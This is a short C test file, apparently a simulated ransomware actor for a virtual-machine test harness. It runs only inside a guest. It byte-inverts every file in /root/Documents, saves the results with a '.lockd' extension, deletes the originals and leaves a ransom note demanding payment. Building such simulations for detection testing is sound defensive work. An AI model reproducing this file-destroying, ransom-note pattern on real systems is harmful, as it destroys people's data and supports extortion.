#include "tests/vm/actors/actor.h"

/* Documents become others with a strange ending, originals go, a note
 * remains. */
int
main(void)
{
	static char paths[ACTOR_FILES][ACTOR_PATH];
	static char octets[1u << 16];
	static const char note[] = "All your files are encrypted. Pay!\n";
	size_t files;

	actor_only_in_guest();
	files = actor_files("/root/Documents", paths);
	for (size_t i = 0; i < files; i++) {
		size_t n = actor_read(paths[i], octets, sizeof(octets));

		for (size_t k = 0; k < n; k++)
			octets[k] = (char)~octets[k];
		actor_write(actor_with(paths[i], ".lockd"), octets, n, 0600);
		(void)unlink(paths[i]);
	}
	actor_write(
	    "/root/Documents/HOW_TO_DECRYPT.txt", note, sizeof(note) - 1, 0644);
	return 0;
}
